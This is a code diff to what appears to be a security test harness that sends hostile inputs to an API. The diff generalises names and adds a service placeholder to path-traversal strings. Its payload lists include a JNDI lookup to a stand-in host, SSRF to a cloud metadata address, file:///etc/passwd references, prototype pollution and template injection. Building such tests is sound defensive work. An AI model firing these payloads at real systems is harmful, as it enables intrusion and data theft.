@@ -13,7 +13,7 @@ from tools.measure.attacks.case import Answer, Case
 from tools.measure.attacks.world import World
 
 MEMBERS = {
-    "id": "ord_00000000000000000000000000",
+    "id": "none_00000000000000000000000000",
     "tenant": "globex",
     "owner": "globex",
     "version": 99,
@@ -24,9 +24,9 @@ MEMBERS = {
     "state": "delivered",
     "isAdmin": True,
     "role": "staff",
-    "scopes": ["orders/admin"],
+    "scopes": ["admin"],
     "pk": "TENANT#globex",
-    "sk": "ORDER#x",
+    "sk": "THING#x",
     "__proto__": {"isAdmin": True},
     "constructor": {"prototype": {}},
     "$ref": "file:///etc/passwd",
@@ -40,7 +40,7 @@ INJECTIONS = (
     ":tenant",
     "#pk",
     "TENANT#acme",
-    "ORDER#\x00",
+    "THING#\x00",
     "${jndi:ldap://elsewhere.example/a}",
     "{{7*7}}",
     "$util.error('x')",
@@ -58,8 +58,8 @@ ADDRESSES = (
     "http://169.254.169.254/latest/meta-data/",
     "file:///etc/passwd",
     "//elsewhere.example/x",
-    "..%2f..%2forders",
-    "../../orders",
+    "..%2f..%2f{service}",
+    "../../{service}",
     "?ids=x&category=y",
     "x&limit=1000",
     "x#fragment",
@@ -188,8 +188,9 @@ def _addresses(world: World) -> Iterator[Case]:
     for address in ADDRESSES:
 
         def named(address: str = address) -> Answer:
+            hostile = address.replace("{service}", world.journey.service)
             content = json.dumps(world.journey.body(world.need, 1)).replace(
-                json.dumps(world.need), json.dumps(address)
+                json.dumps(world.need), json.dumps(hostile)
             )
             return world.ask(
                 "POST",
